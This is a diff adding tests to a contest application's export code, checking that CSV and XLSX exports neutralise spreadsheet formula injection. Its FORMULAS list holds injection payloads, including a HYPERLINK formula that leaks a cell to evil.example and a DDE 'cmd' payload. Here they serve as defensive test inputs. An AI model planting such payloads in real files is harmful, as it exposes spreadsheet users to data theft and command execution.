@@ -1,15 +1,19 @@
-"""Exports read back with pandas (CSV with utf-8-sig, XLSX per sheet) equal their inputs."""
+"""Exports read back with pandas (CSV with utf-8-sig, XLSX per sheet) equal their inputs; no
+exported cell can run as a formula."""
 
 from __future__ import annotations
 
+import csv
 import io
 
+import openpyxl
 import pandas as pd
 import pytest
 from sqlmodel import col, select
 
+from contest.core.cells import FORMULA_STARTS, neutralise
 from contest.core.errors import PermissionDenied
-from contest.core.models import AuditEvent, User, Vote
+from contest.core.models import AuditEvent, Contest, Entry, JudgeScore, User, Vote
 from contest.judging import lifecycle, results
 from contest.judging import scoring as judging
 from contest.reports import exports
@@ -109,3 +113,80 @@ def test_only_admins_export(runtime: Runtime) -> None:
     for actor in (s.staff, s.judges[0], None):
         with runtime.session() as session, pytest.raises(PermissionDenied):
             exports.export_tables(session, actor=actor, contest_id=s.contest.id or 0)
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+2",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+)
+
+
+def _poisoned(runtime: Runtime):  # type: ignore[no-untyped-def]
+    """A scored contest whose typed texts (titles, prompts, a judge's comment, a rubric key,
+    an author's name) are formulas."""
+    s = _scored(runtime)
+    with runtime.session() as session:
+        for n, entry in enumerate(s.entries):
+            row = session.get(Entry, entry.id)
+            assert row is not None
+            row.title, row.prompt = FORMULAS[n], FORMULAS[n + 2]
+            session.add(row)
+        score = session.exec(select(JudgeScore)).one()
+        score.comment = FORMULAS[4]
+        author = session.get(User, s.staff.id)
+        assert author is not None
+        author.name = FORMULAS[5]
+        contest = session.get(Contest, s.contest.id)
+        assert contest is not None
+        contest.rubric = [{**c, "key": "=" + c["key"]} for c in contest.rubric]
+        score.scores = {"=" + k: v for k, v in score.scores.items()}
+        session.add_all([score, author, contest])
+    with runtime.session() as session:
+        return exports.export_tables(session, actor=s.admin, contest_id=s.contest.id or 0)
+
+
+def test_csv_cells_cannot_run_as_formulas(runtime: Runtime) -> None:
+    tables = _poisoned(runtime)
+    for name, frame in tables.items():
+        text = exports.to_csv(frame).decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
+    entries = pd.read_csv(io.BytesIO(exports.to_csv(tables["entries"])), encoding="utf-8-sig")
+    assert list(entries["title"]) == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
+    assert list(entries["prompt"]) == ["'" + FORMULAS[2], "'" + FORMULAS[3]]
+    assert set(entries["author_name"]) == {"'" + FORMULAS[5]}
+    assert list(entries["votes"]) == [3, 1]  # numbers stay numbers
+    scores = pd.read_csv(io.BytesIO(exports.to_csv(tables["scores"])), encoding="utf-8-sig")
+    assert "'=creativity" in scores.columns and list(scores["'=creativity"]) == [9]
+    assert list(scores["comment"]) == ["'" + FORMULAS[4]]
+
+
+def test_xlsx_has_no_formula_and_text_cells_are_text(runtime: Runtime) -> None:
+    tables = _poisoned(runtime)
+    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(tables)))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    assert not cell.value.startswith(FORMULA_STARTS)
+    titles = [row[1].value for row in book["entries"].iter_rows(min_row=2)]
+    assert titles == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
+    votes = [row[12].value for row in book["entries"].iter_rows(min_row=2)]
+    assert votes == [3, 1]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_neutralise_prefixes_formula_text_only(text: str) -> None:
+    assert neutralise(text) == "'" + text
+    for harmless in ("포스터", "a=b", "1-2", "", "'=already quoted"):
+        assert neutralise(harmless) == harmless
+    for number in (-5, -0.25, 3):
+        assert neutralise(number) == number
